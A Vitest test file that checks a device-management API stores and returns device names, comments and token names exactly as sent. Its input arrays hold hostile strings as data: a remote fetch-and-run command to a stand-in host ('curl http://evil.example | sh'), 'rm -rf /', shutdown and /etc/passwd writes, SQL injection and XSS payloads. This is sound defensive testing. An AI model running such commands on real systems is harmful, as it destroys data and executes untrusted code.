// Free text (names, comments) is data, never code: stored and returned byte-for-byte on both providers.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { linuxDevice, PROVIDERS, routerOsDevice, setupAdmin, startAppEnvironment, type ApiClient, type AppEnvironment } from "./support";

// Names: up to 100 characters, newline and tab allowed. Comments: up to 2000.
const NAMES = [
  `"quoted" 'single' <b>bold</b>`,
  "<script>alert(1)</script>",
  "line one\nline two\ttabbed",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: hostile input, a shell expansion that must be stored as literal text
  "$(id) `uname -a` ${HOME}",
  "a; rm -rf / | cat & echo && x || y",
  `'; DROP TABLE "Device"; --`,
  "back\\slash %s %n {{7*7}} \\u0000",
  "ünïcødé – 日本語 – 🚀",
  "  leading and trailing spaces  ",
  "/ip address add address=10.0.0.1/24 interface=ether1",
];

const COMMENT = [
  `<img src=x onerror="alert('x')">`,
  "$(curl http://evil.example | sh)",
  "`reboot`; shutdown -h now & disown | tee /etc/passwd",
  "quotes: \" ' ` — and a trailing newline",
  "",
].join("\n");

describe.each(PROVIDERS)("inert strings on %s", (provider) => {
  let app: AppEnvironment;
  let admin: ApiClient;
  const created: Array<{ id: string; name: string }> = [];

  beforeAll(async () => {
    app = await startAppEnvironment(provider);
    admin = await setupAdmin(app);
  });
  afterAll(async () => {
    await app?.close();
  });

  it("device names and comments are stored and returned exactly as sent", async () => {
    for (const [i, name] of NAMES.entries()) {
      const body = i % 2 === 0 ? routerOsDevice({ name, comment: COMMENT }) : linuxDevice({ name, comment: COMMENT });
      const reply = await admin.post("/devices", body);
      expect(reply.status, `${JSON.stringify(name)}: ${reply.text}`).toBe(201);
      expect(reply.json.name).toBe(name);
      expect(reply.json.comment).toBe(COMMENT);
      expect(reply.headers.get("content-type")).toMatch(/^application\/json/);
      created.push({ id: reply.json.id, name });

      const row = await app.db.device.findUniqueOrThrow({ where: { id: reply.json.id } });
      expect(Buffer.from(row.name)).toEqual(Buffer.from(name));
      expect(Buffer.from(row.comment)).toEqual(Buffer.from(COMMENT));
    }
  });

  it("the list and the single view return them byte-for-byte", async () => {
    const list = (await admin.get("/devices")).json as Array<{ id: string; name: string; comment: string }>;
    for (const { id, name } of created) {
      const fromList = list.find((d) => d.id === id)!;
      expect(fromList.name).toBe(name);
      expect(fromList.comment).toBe(COMMENT);
      const one = (await admin.get(`/devices/${id}`)).json;
      expect(Buffer.from(one.name)).toEqual(Buffer.from(name));
      expect(Buffer.from(one.comment)).toEqual(Buffer.from(COMMENT));
    }
    // Uniqueness is on the exact bytes: a name differing only in whitespace is a different device.
    expect((await admin.post("/devices", routerOsDevice({ name: NAMES[0] }))).status).toBe(409);
  });

  it("edits keep them exact too, and the audit log records the name as sent", async () => {
    const target = created[0]!;
    const renamed = `${NAMES[3]}\n${NAMES[1]}`.slice(0, 100);
    const reply = await admin.patch(`/devices/${target.id}`, { name: renamed, comment: NAMES[4] });
    expect(reply.status).toBe(200);
    expect((await admin.get(`/devices/${target.id}`)).json).toMatchObject({ name: renamed, comment: NAMES[4] });
    const events = (await admin.get("/audit?limit=500")).json as Array<{ action: string; target: string; outcome: string; detail: { name?: string } }>;
    const update = events.find((e) => e.action === "device.update" && e.target === target.id)!;
    expect(update.detail.name).toBe(renamed);
    const creates = events.filter((e) => e.action === "device.create" && e.outcome === "ok").map((e) => e.detail.name);
    expect(creates.sort()).toEqual([...NAMES].sort());
  });

  it("token names with metacharacters are kept as sent (trimmed at the ends)", async () => {
    const name = `ci <"$(id)"> ; | & \`x\``;
    const reply = await admin.post("/tokens", { name: `  ${name}  `, role: "viewer" });
    expect(reply.status).toBe(201);
    expect(reply.json.name).toBe(name);
    expect((await admin.get("/tokens")).json.map((t: { name: string }) => t.name)).toContain(name);
    const me = await app.client().withToken(reply.json.token).get("/me");
    expect(me.status).toBe(200);
  });
});
